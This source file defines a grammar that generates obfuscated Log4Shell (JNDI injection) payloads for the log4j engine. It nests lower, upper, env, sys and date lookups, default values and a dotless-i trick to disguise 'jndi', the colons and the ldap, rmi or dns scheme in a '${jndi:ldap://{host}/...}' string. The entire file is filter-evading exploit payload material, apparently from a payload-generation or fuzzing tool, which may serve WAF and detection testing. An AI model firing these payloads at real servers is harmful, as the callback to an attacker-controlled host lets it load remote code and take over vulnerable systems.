// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/**
 * Log4j: the name is itself put together by look-ups. A name that no look-up knows (`${n}`) stays as it is written, and
 * spoils what is around it: every piece has its prefix or its default.
 */
export const jndiNested = templateGenerator({
  name: 'jndi-nested',
  engines: ['log4j'],
  rules: {
    start: [
      '${l}{j}{n}{d}{i}{colon}{scheme}{colon}//{host}/{letters}{r}',
      '{before}${l}{j}ndi:{scheme}://{host}/{letters}{r}',
      '${l}jn{d}i:{scheme}{colon}//{host}/{letters}{r}',
      '${l}{word}:{scheme-word}://{host}/{letters}{r}',
      '${l}{j}{n}di:${l}lower:l{r}dap://{host}/{letters}{r}',
    ],
    j: [
      '${l}lower:j{r}',
      '${l}upper:j{r}',
      '${l}::-j{r}',
      '${l}env:{letters}:-j{r}',
      '${l}{letters}:{letters}:-j{r}',
      'j',
      '${l}sys:{letters}:-j{r}',
      '${l}lower:J{r}',
    ],
    n: ['${l}lower:n{r}', '${l}::-n{r}', '${l}env:X:-n{r}', 'n', '${l}lower:${l}::-n{r}{r}', '${l}date:n{r}'],
    d: ['${l}lower:d{r}', '${l}::-d{r}', 'd', '${l}lower:${l}upper:d{r}{r}', "${l}date:'d'{r}"],
    i: ['${l}lower:i{r}', '${l}::-i{r}', 'i', '${l}upper:ı{r}', '${l}lower:${l}upper:i{r}{r}'],
    colon: [':', '${l}::-:{r}', '${l}lower::{r}', '${l}env:{letters}:-:{r}', '${l}sd:k5:-:{r}'],
    scheme: [
      'ldap',
      'rmi',
      'dns',
      '${l}lower:l{r}${l}lower:d{r}ap',
      '${l}::-l{r}dap',
      '${l}env:{letters}:-l{r}dap',
      'l${l}lower:D{r}ap',
      'r${l}lower:m{r}i',
    ],
    word: [
      '${l}lower:jndi{r}',
      '${l}::-jndi{r}',
      '${l}lower:JNDI{r}',
      '${l}env:{letters}:-jndi{r}',
      '${l}main:{letters}:-jndi{r}',
    ],
    'scheme-word': ['${l}lower:ldap{r}', '${l}::-ldap{r}', '${l}lower:RMI{r}', 'ldap'],
  },
});
